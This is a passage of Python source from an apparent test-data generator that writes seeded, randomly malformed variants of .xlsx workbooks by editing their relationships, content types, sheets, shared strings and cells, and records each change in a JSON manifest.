                d.set("ContentType", SHEET_CT)
    elif op == "delete-default":
        defaults = root.findall("ct:Default", NS)
        if not defaults:
            raise NotApplicable("no defaults")
        gone = rng.choice(defaults)
        what = f"Default {gone.get('Extension')}"
        root.remove(gone)
    else:
        o.set("PartName", o.get("PartName", "").upper())
    pkg.put("[Content_Types].xml", root)
    return f"[Content_Types].xml: {op} ({what})"


def edit_workbook(pkg: Package, rng: random.Random) -> str:
    wb = pkg.workbook_part()
    root = pkg.xml(wb)
    sheets = root.findall("m:sheets/m:sheet", NS)
    op = rng.choice(
        ["swap-order", "swap-ids", "rename", "hide", "date1904", "duplicate-sheet", "local-name"]
    )
    a, b = rng.choice(sheets), rng.choice(sheets)
    rid = f"{{{REL}}}id"
    if op == "swap-order":
        a_next = a.getnext()
        b.addprevious(a)
        if a_next is not None and a_next is not b:
            a_next.addprevious(b)
    elif op == "swap-ids":
        ia, ib = a.get(rid), b.get(rid)
        a.set(rid, ib or "")
        b.set(rid, ia or "")
    elif op == "rename":
        a.set("name", a.get("name", "") + " ")
    elif op == "hide":
        a.set("state", rng.choice(["hidden", "veryHidden"]))
    elif op == "date1904":
        pr = root.find("m:workbookPr", NS)
        if pr is None:
            pr = etree.Element(f"{{{MAIN}}}workbookPr")
            root.insert(0, pr)
        pr.set("date1904", "1")
    elif op == "duplicate-sheet":
        twin = copy.deepcopy(a)
        twin.set("sheetId", "99")
        a.addnext(twin)
    else:
        names = root.find("m:definedNames", NS)
        if names is None or not len(names):
            raise NotApplicable("no names")
        d = rng.choice(list(names))
        d.set("localSheetId", str(rng.randrange(0, len(sheets) + 2)))
    pkg.put(wb, root)
    return f"{wb}: {op} ({a.get('name')}{', ' + (b.get('name') or '') if op in ('swap-order', 'swap-ids') else ''})"


def edit_shared_strings(pkg: Package, rng: random.Random) -> str:
    try:
        part = next(
            t
            for kind, t in pkg.relationships(pkg.workbook_part()).values()
            if kind.endswith("/sharedStrings")
        )
    except StopIteration:
        raise NotApplicable("no shared strings") from None
    root = pkg.xml(part)
    items = root.findall("m:si", NS)
    if len(items) < 2:
        raise NotApplicable("too few strings")
    op = rng.choice(["swap", "delete", "phonetic", "rich-runs", "duplicate-t"])
    a, b = rng.choice(items), rng.choice(items)
    which = f"string {items.index(a)}" + (f" and {items.index(b)}" if op == "swap" else "")
    if op == "swap":
        a.addprevious(copy.deepcopy(b))
        b.addprevious(copy.deepcopy(a))
        root.remove(a)
        root.remove(b)
    elif op == "delete":
        root.remove(a)
    elif op == "phonetic":
        rph = etree.SubElement(a, f"{{{MAIN}}}rPh", sb="0", eb="1")
        etree.SubElement(rph, f"{{{MAIN}}}t").text = "Green"
    elif op == "rich-runs":
        text = "".join(t.text or "" for t in a.iter(f"{{{MAIN}}}t"))
        for child in list(a):
            a.remove(child)
        for piece in (text[: len(text) // 2], text[len(text) // 2 :]):
            r = etree.SubElement(a, f"{{{MAIN}}}r")
            t = etree.SubElement(r, f"{{{MAIN}}}t")
            t.text = piece
            t.set(XML_SPACE, "preserve")
    else:
        t = a.find("m:t", NS)
        if t is None:
            raise NotApplicable("rich text")
        t.addnext(copy.deepcopy(t))
    pkg.put(part, root)
    return f"{part}: {op} ({which})"


def edit_sheet(pkg: Package, rng: random.Random) -> str:
    sheet = rng.choice(["Gains", "Gains", "Forecast", "Sign-off", "Projects", "_meta", "Cover"])
    part = pkg.sheet_parts()[sheet]
    root = pkg.xml(part)
    data = root.find("m:sheetData", NS)
    rows = data.findall("m:row", NS)
    cells = [c for row in rows for c in row.findall("m:c", NS)]
    inputs = [
        c for c in cells if c.get("r") in ("B8", "B9", "C8", "B19", "B6", "B7", "B5", "B9", "B2")
    ] or cells
    op = rng.choice(
        [
            "swap-values",
            "duplicate-cell",
            "duplicate-row",
            "delete-row",
            "retype",
            "readdress",
            "reverse-rows",
            "restyle",
            "drop-address",
            "drop-row-number",
            "move-cell",
            "number-spelling",
            "delete-cell",
            "inline-and-value",
            "swap-cells",
        ]
    )
    c, d = rng.choice(inputs), rng.choice(cells)
    at = f"{c.get('r')}" + (
        f"/{d.get('r')}" if op in ("readdress", "swap-values", "swap-cells", "move-cell") else ""
    )
    if op == "swap-values":
        kids_c, kids_d = list(c), list(d)
        tc, td = c.get("t"), d.get("t")
        for k in kids_c:
            d.append(k)
        for k in kids_d:
            c.append(k)
        for cell, t in ((c, td), (d, tc)):
            if t is None:
                cell.attrib.pop("t", None)
            else:
                cell.set("t", t)
    elif op == "duplicate-cell":
        twin = copy.deepcopy(c)
        if twin.find("m:v", NS) is not None and (twin.get("t") in (None, "n")):
            twin.find("m:v", NS).text = "1.5"
        c.addnext(twin)
    elif op == "duplicate-row":
        row = c.getparent()
        row.addnext(copy.deepcopy(row))
    elif op == "delete-row":
        data.remove(c.getparent())
    elif op == "retype":
        c.set("t", rng.choice(["s", "str", "b", "e", "d", "n", "inlineStr", "x"]))
    elif op == "readdress":
        c.set("r", d.get("r", "A1"))
    elif op == "reverse-rows":
        for row in reversed(rows):
            data.append(row)
    elif op == "restyle":
        c.set("s", str(rng.randrange(0, 60)))
    elif op == "drop-address":
        c.attrib.pop("r", None)
    elif op == "drop-row-number":
        c.getparent().attrib.pop("r", None)
    elif op == "move-cell":
        target_row = rng.choice(rows)
        target_row.append(c)
    elif op == "number-spelling":
        v = c.find("m:v", NS)
        if v is None or c.get("t") not in (None, "n"):
            raise NotApplicable("no number")
        v.text = rng.choice(
            [" 63.5 ", "6.35E1", "+63.5", "63.50", "063.5", "63,5", "0x3F", "63.5e0", "Infinity"]
        )
    elif op == "delete-cell":
        c.getparent().remove(c)
    elif op == "inline-and-value":
        if c.find("m:v", NS) is None:
            raise NotApplicable("no value")
        t = etree.SubElement(etree.SubElement(c, f"{{{MAIN}}}is"), f"{{{MAIN}}}t")
        t.text = "1.5"
    elif c is not d:  # swap-cells: the same cells, in another order in the XML
        c.addprevious(d)
    pkg.put(part, root)
    return f"{sheet} ({part}): {op} at {at}"


def rename_part(pkg: Package, rng: random.Random) -> str:
    candidates = [
        n for n in pkg.parts if n.startswith("xl/") and n.endswith(".xml") and "/_rels/" not in n
    ]
    name = rng.choice(candidates)
    new = posixpath.join(posixpath.dirname(name), "renamed_" + posixpath.basename(name))
    update = rng.random() < 0.6
    pkg.parts[new] = pkg.parts.pop(name)
    if pkg.rels_name(name) in pkg.parts:
        pkg.parts[pkg.rels_name(new)] = pkg.parts.pop(pkg.rels_name(name))
    if update:
        for rels_name in [n for n in pkg.parts if n.endswith(".rels")]:
            owner = (
                ""
                if rels_name == "_rels/.rels"
                else rels_name.replace("_rels/", "").removesuffix(".rels")
            )
            root = pkg.xml(rels_name)
            for rel in root:
                if (
                    rel.get("TargetMode") != "External"
                    and _resolve(owner, rel.get("Target", "")) == name
                ):
                    rel.set(
                        "Target",
                        _relative(owner, new)
                        if not rel.get("Target", "").startswith("/")
                        else "/" + new,
                    )
            pkg.put(rels_name, root)
        ct = pkg.xml("[Content_Types].xml")
        for o in ct.findall("ct:Override", NS):
            if o.get("PartName", "").lstrip("/") == name:
                o.set("PartName", "/" + new)
        pkg.put("[Content_Types].xml", ct)
    return f"{name} renamed {new}" + (
        " (relationships and content types follow)" if update else " (nothing follows)"
    )


RANDOM: dict[str, Callable[[Package, random.Random], str]] = {
    "relationships": edit_relationships,
    "content-types": edit_content_types,
    "workbook": edit_workbook,
    "shared-strings": edit_shared_strings,
    "sheet": edit_sheet,
    "rename-part": rename_part,
}
RANDOM_WEIGHTS = {
    "relationships": 3,
    "content-types": 2,
    "workbook": 2,
    "shared-strings": 2,
    "sheet": 6,
    "rename-part": 1,
}


# -- making the files ------------------------------------------------------------------------


def _make(
    base: Path,
    out: Path,
    label: str,
    kind: str,
    edits: list[Callable[[Package, random.Random], str | tuple[str, str]]],
    rng: random.Random,
) -> Mutant | None:
    pkg = Package(base)
    details, must_reject = [], ""
    try:
        for edit in edits:
            said = edit(pkg, rng)
            if isinstance(said, tuple):
                said, must_reject = said
            details.append(said)
    except (NotApplicable, KeyError, IndexError, ValueError, etree.XMLSyntaxError, StopIteration):
        return (
            None  # this edit does not apply to this base (or an earlier edit broke what it needs)
        )
    pkg.save(out)
    return Mutant(out, label, kind, "; ".join(details), must_reject)


def generate(
    bases: dict[str, Path], out_dir: Path, schema: Schema, *, seed: int, count: int
) -> list[Mutant]:
    """Every variant of every targeted class (at least twice per base for a class with few
    variants), the bases taken in turn; then seeded random mutants up to ``count`` in all.
    Written into ``out_dir``, with ``mutants.json`` describing each."""
    out_dir.mkdir(parents=True, exist_ok=True)
    mutants: list[Mutant] = []
    labels = list(bases)
    n = 0
    for kind, (edit, variants) in TARGETED.items():
        for pick in range(max(variants, 2 * len(labels))):
            label = labels[pick % len(labels)]
            rng = random.Random(f"{seed}:{n}")
            m = _make(
                bases[label],
                out_dir / f"{n:04d}-{kind}.xlsx",
                label,
                kind,
                [lambda pkg, rng, edit=edit, pick=pick: edit(pkg, rng, Aim(schema, pick))],
                rng,
            )
            n += 1
            if m is not None:
                mutants.append(m)
    kinds, weights = list(RANDOM), [RANDOM_WEIGHTS[k] for k in RANDOM]
    tries = 0
    while len(mutants) < count and tries < 20 * count:
        tries += 1
        rng = random.Random(f"{seed}:{n}")
        label = rng.choice(labels)
        chosen = rng.choices(kinds, weights, k=rng.choice([1, 1, 1, 2, 3]))
        m = _make(
            bases[label],
            out_dir / f"{n:04d}-random.xlsx",
            label,
            "random: " + "+".join(chosen),
            [RANDOM[k] for k in chosen],
            rng,
        )
        n += 1
        if m is not None:
            mutants.append(m)
    (out_dir / "mutants.json").write_text(
        json.dumps([{**asdict(m), "path": m.path.name} for m in mutants], indent=1), "utf-8"
    )
    return mutants


def load_manifest(folder: Path) -> dict[str, Mutant]:
    """The mutants ``generate`` wrote into ``folder``, by file name ({} if it wrote none)."""
    manifest = folder / "mutants.json"
    if not manifest.exists():
        return {}
    return {
        m["path"]: Mutant(**{**m, "path": folder / m["path"]})
        for m in json.loads(manifest.read_text("utf-8"))
    }
